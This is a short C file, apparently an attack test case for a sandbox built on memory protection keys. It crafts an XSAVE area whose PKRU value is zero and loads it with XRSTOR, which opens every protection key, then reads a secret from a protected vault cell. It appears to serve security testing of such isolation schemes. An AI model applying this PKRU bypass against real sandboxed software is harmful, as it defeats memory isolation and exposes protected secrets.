/* XRSTOR loads PKRU from memory: a crafted XSAVE area whose PKRU
 * component (bit 9) is 0, every key open. */
#include "attack.h"

#include <cpuid.h>
#include <stdint.h>

static uint8_t area[8192] __attribute__((aligned(64)));

__attribute__((noinline)) static void load_state(void *buf, uint64_t mask)
{
    __asm__ volatile("xrstor64 (%0)" ::"r"(buf), "a"((uint32_t)mask), "d"((uint32_t)(mask >> 32)) : "memory");
}

static const volatile uint8_t *steal(void *cell)
{
    load_state(area, 1ull << 9);
    return ((struct vault_cell *)cell)->secret;
}

int main(void)
{
    vault_open();
    unsigned eax, ebx, ecx, edx;
    __cpuid_count(0xd, 9, eax, ebx, ecx, edx); /* PKRU: size eax, offset ebx */
    if (!eax)
        blocked("no PKRU state component");
    memset(area, 0, sizeof area);
    uint64_t bv = 1ull << 9;
    memcpy(area + 512, &bv, 8);                 /* XSTATE_BV: PKRU present */
    memset(area + ebx, 0, 4);                   /* PKRU = 0 */
    steal_in_child(steal, vault_address(VAULT_DATA));
}
